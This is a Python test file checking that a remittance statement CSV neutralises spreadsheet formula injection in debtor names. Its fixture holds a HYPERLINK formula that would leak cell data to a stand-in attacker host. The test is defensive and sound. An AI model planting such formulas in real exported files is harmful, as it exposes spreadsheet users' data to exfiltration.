"""The statement's CSV opens in the client's spreadsheet: names coming from placements stay plain text."""

from __future__ import annotations

import csv
import io
from datetime import date

from money.remittances.documents import statement_csv
from money.remittances.statements import run_remittances
from tests import factories
from tests.money.remittances.conftest import pay


def test_a_debtor_name_written_as_a_formula_is_not_a_formula_in_the_csv(db_session, creditor):
    debtor = factories.debtor("company", company_name='=HYPERLINK("http://evil.example/?x="&A1;"Voir")')
    case = factories.case(client_row=creditor, debtor_row=debtor, amounts=(50_000,))
    pay(case, 10_000, date(2026, 3, 3))
    (march,) = run_remittances(date(2026, 3, 31))

    rows = list(csv.reader(io.StringIO(statement_csv(march).lstrip("\ufeff")), delimiter=";"))
    names = {row[1] for row in rows[1:-1]}
    assert names == {"'" + debtor.company_name}
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
    # Amounts keep their minus sign: a reversal is still a number.
    assert rows[-1][6] == "100,00"
